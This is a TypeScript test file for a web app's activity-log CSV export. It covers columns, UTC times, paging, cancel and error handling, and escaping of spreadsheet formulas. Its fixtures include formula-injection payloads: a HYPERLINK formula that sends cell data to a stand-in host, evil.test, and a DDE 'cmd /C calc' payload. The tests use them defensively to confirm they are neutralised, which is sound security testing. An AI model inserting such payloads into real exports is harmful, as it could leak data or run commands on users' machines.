import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { FakeActivityApi, makeEntry } from '$lib/testing/fake-activity-api';
import { makeUser, ORG_ID } from '$lib/testing/fake-users-api';
import { apiError } from '$lib/users/errors';
import { CSV_FIELDS, csvChunk, type People } from './csv';
import { ActivityExport } from './export.svelte';

const ada = makeUser({ first_name: 'Ada', last_name: 'Lovelace', email: 'ada@demo.test' });
const evil = makeUser({
	first_name: '=HYPERLINK("https://evil.test/?x="&A1',
	last_name: '"Click")',
	email: 'evil@demo.test'
});
const people: People = Object.fromEntries(
	[ada, evil].map(({ id, first_name, last_name, email }) => [
		id,
		{ id, first_name, last_name, email }
	])
);

/** The cells as a spreadsheet reads them back (quotes undone). */
const cells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data;

describe('csvChunk', () => {
	it('writes the columns the export promises, the time in UTC', () => {
		const entry = makeEntry({
			occurred_at: '2026-12-01T15:35:18.123456+01:00',
			action: 'role_changed',
			actor_id: ada.id,
			target_id: evil.id,
			changes: { role: { from: 'member', to: 'admin' } },
			request_id: 'req-1'
		});
		const [header, row] = cells(csvChunk([entry], people, { header: true }));
		expect(header).toEqual([...CSV_FIELDS]);
		expect(header?.[0]).toContain('UTC');
		expect(row).toEqual([
			'2026-12-01T14:35:18.123Z',
			'Ada Lovelace',
			'ada@demo.test',
			'role_changed',
			`'=HYPERLINK("https://evil.test/?x="&A1 "Click")`,
			'evil@demo.test',
			'role: Member → Admin',
			`Ada Lovelace changed =HYPERLINK("https://evil.test/?x="&A1 "Click")'s role from Member to Admin`,
			'req-1'
		]);
	});

	it('neutralises every cell a spreadsheet would run as a formula', () => {
		for (const start of ['=', '+', '-', '@', '\t', '\r']) {
			const name = `${start}cmd|' /C calc'!A0`;
			const person = makeUser({ first_name: name, last_name: 'X', email: 'x@demo.test' });
			const csv = csvChunk(
				[makeEntry({ action: 'signed_in', actor_id: person.id, target_id: person.id })],
				{ [person.id]: { ...person } },
				{ header: false }
			);
			const [row] = cells(csv);
			// Actor, target and the sentence all start with the name: each is text now.
			expect(row?.[1], JSON.stringify(start)).toBe(`'${name} X`);
			expect(row?.[4]).toBe(`'${name} X`);
			expect(row?.[7]).toBe(`'${name} X signed in`);
			for (const cell of row ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
		}
	});

	it('also when a line break follows the sign (papaparse’s own pattern would let it through)', () => {
		const entry = makeEntry({
			action: 'profile_changed',
			actor_id: ada.id,
			target_id: ada.id,
			changes: { last_name: { from: 'Lovelace', to: 'x' } },
			request_id: '=1+1\n2'
		});
		const [row] = cells(csvChunk([entry], people, { header: false }));
		expect(row?.[8]).toBe("'=1+1\n2");
	});

	it('names unknown people by their id, and the service role and operators by what they are', () => {
		const hidden = '00000000-0000-4000-8000-00000000dead';
		const [first, second] = cells(
			csvChunk(
				[
					makeEntry({ action: 'activated', actor_type: 'service', target_id: hidden }),
					makeEntry({ action: 'deactivated', actor_type: 'operator', target_id: ada.id })
				],
				people,
				{ header: false }
			)
		);
		expect(first?.slice(1, 6)).toEqual(['service role', '', 'activated', hidden, '']);
		expect(first?.[7]).toBe('The service role activated a user');
		expect(second?.slice(1, 6)).toEqual([
			'operator',
			'',
			'deactivated',
			'Ada Lovelace',
			'ada@demo.test'
		]);
	});
});

describe('ActivityExport', () => {
	afterEach(() => vi.restoreAllMocks());

	const seeded = (count: number) =>
		new FakeActivityApi(
			Array.from({ length: count }, () =>
				makeEntry({ action: 'signed_in', actor_id: evil.id, target_id: evil.id })
			),
			[ada, evil]
		);

	it('reads every entry the filters select page by page, and writes one file of the chunks', async () => {
		const api = seeded(25);
		const exporting = new ActivityExport(() => api, 10);
		const progress: number[] = [];
		const real = api.page.getMockImplementation()!;
		api.page.mockImplementation(async (params, options) => {
			progress.push(exporting.rows);
			return real(params, options);
		});
		const blob = await exporting.run(ORG_ID, { userId: evil.id, action: '', from: '', to: '' });
		expect(blob?.type).toBe('text/csv;charset=utf-8');
		const text = await blob!.text();
		// A byte-order mark for Excel, one header, every entry once, newest first.
		expect(text.startsWith('\uFEFF')).toBe(true);
		const rows = cells(text).filter((row) => row.length > 1);
		expect(rows[0]).toEqual([...CSV_FIELDS]);
		expect(rows).toHaveLength(26);
		expect(new Set(rows.slice(1).map((row) => row[0])).size).toBe(25);
		// The counter moved between requests (what the progress shows), and ended at the total.
		expect(progress).toEqual([0, 10, 20]);
		expect(exporting.rows).toBe(25);
		expect(exporting.running).toBe(false);
		// Keyset pages of the given size, each continuing from the last entry of the one before.
		const calls = api.page.mock.calls.map(([params]) => params);
		expect(calls.map((params) => params.limit)).toEqual([10, 10, 10]);
		expect(calls.map((params) => params.cursor?.direction)).toEqual([undefined, 'older', 'older']);
		expect(calls.every((params) => params.userId === evil.id)).toBe(true);
		// One lookup of the people named, with their addresses.
		expect(api.people).toHaveBeenCalledTimes(1);
		// Names that look like formulas are text in the file too.
		expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
	});

	it('writes the header alone when nothing matches', async () => {
		const exporting = new ActivityExport(() => new FakeActivityApi(), 10);
		const blob = await exporting.run(ORG_ID, { userId: '', action: '', from: '', to: '' });
		expect(cells(await blob!.text()).filter((row) => row.length > 1)).toEqual([[...CSV_FIELDS]]);
	});

	it('stops at Cancel without a file or an error', async () => {
		const api = seeded(30);
		const exporting = new ActivityExport(() => api, 10);
		const real = api.page.getMockImplementation()!;
		api.page.mockImplementation(async (params, options) => {
			if (params.cursor) exporting.cancel();
			const answer = await real(params, options);
			return options?.signal?.aborted ? { ok: false, error: apiError('cancelled') } : answer;
		});
		const blob = await exporting.run(ORG_ID, { userId: '', action: '', from: '', to: '' });
		expect(blob).toBeNull();
		expect(exporting.error).toBeNull();
		expect(exporting.running).toBe(false);
		expect(api.page).toHaveBeenCalledTimes(2);
	});

	it('reports a failed page and makes no file', async () => {
		const api = seeded(30);
		const exporting = new ActivityExport(() => api, 10);
		const real = api.page.getMockImplementation()!;
		api.page.mockImplementation(async (params, options) =>
			params.cursor ? { ok: false, error: apiError('timeout') } : real(params, options)
		);
		expect(await exporting.run(ORG_ID, { userId: '', action: '', from: '', to: '' })).toBeNull();
		expect(exporting.error?.code).toBe('timeout');
		expect(exporting.rows).toBe(10);
	});
});
